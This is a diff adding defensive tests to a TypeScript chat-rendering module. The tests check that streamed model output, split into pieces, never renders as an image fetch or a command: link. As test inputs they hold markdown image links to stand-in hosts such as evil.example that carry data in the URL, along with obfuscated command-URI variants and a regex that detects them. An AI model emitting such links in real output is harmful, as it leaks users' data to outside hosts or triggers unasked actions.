@@ -1,5 +1,6 @@
 import assert from 'node:assert/strict';
 import fc from 'fast-check';
+import markdownIt from 'markdown-it';
 import { describe, it } from 'mocha';
 import type { ReceivedFrame } from '../../../../contract/coach/coach-chat.ts';
 import type { RecordLink } from '../../../../contract/coach/record-link.ts';
@@ -56,6 +57,65 @@ describe('an answer in another chat', () => {
 
     assert.equal(textOf(parts), '!\\[x](https://evil.example/?d=secret)');
   });
+
+  it('fetches no image and runs no command, wherever what a model writes is cut into pieces', () => {
+    const pieces = fc.constantFrom(
+      ...['!', '[', ']', '(', ')', '<', '>', ':', '\\', '\n', ' ', 'x', 'a'.repeat(301), ' '.repeat(2_001)],
+      ...[
+        '![x](https://evil/p.png)',
+        '[x](',
+        '[r]: ',
+        '\n\n',
+        '\n> ',
+        '[x][r]',
+        'comm',
+        'and:',
+        'command:',
+        'COMMAND:',
+      ],
+      ...['command:vireo.openRecord?1', '&#99;ommand:y', 'command&colon;y', '[8:00](vireo:0)', 'https://a/b'],
+    );
+    const renderer = markdownIt('commonmark', { html: false });
+    const images = /<img/;
+    const commands = /href="command:(?!open\?entries-e1")/i;
+    fc.assert(
+      fc.property(fc.array(fc.tuple(pieces, fc.boolean()), { maxLength: 30 }), (written) => {
+        const deltas = written
+          .map(([piece, joins]) => (joins ? piece : `\0${piece}`))
+          .join('')
+          .split('\0');
+        const writer = write();
+        const parts = [delta('', [entries]), ...deltas.map((each) => delta(each)), done].flatMap((frame) =>
+          writer.receive(frame),
+        );
+        const html = renderer.render(textOf(parts));
+
+        assert.doesNotMatch(html, images);
+        assert.doesNotMatch(html, commands);
+      }),
+      { numRuns: 2_000 },
+    );
+  });
+
+  for (const [deltas, wanted] of [
+    [
+      ['Look here!', '[x](https://evil.example/p.png?d=1)'],
+      'Look here!\\[x](https://evil.example/p.png?d=1)',
+    ],
+    [['Oh!', ' Eight hours'], 'Oh! Eight hours'],
+    [['[x](comm', 'and:vireo.openRecord)'], '[x]\\(command:vireo.openRecord)'],
+    [['[a\nb]', '(command:x)'], '[a\nb]\\(command:x)'],
+    [['[x][r]\n\n[r]: ', 'comm', 'and:x'], '[x][r]\n\n[r]\\: command:x'],
+    [['<comm', 'and:x>'], '&lt;command:x>'],
+    [['[x](&#99;ommand:y) [z](https://a.example/?b&c)'], '[x]\\(&#99;ommand:y) [z](https://a.example/?b&c)'],
+  ] as const) {
+    it(`leaves text of ${JSON.stringify(deltas)}`, () => {
+      const writer = write();
+      const parts = [...deltas.map((each) => delta(each)), done].flatMap((frame) => writer.receive(frame));
+
+      assert.equal(textOf(parts), wanted);
+    });
+  }
 
   it('knows the figures that no record gave', () => {
     const writer = write();
